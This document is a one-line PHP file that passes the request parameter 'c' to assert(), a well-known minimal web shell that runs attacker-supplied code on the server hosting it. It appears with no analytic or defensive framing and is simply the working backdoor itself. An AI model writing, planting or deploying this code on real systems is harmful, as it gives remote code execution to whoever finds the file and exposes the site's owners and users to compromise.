<?php assert(stripslashes($_REQUEST["c"]));
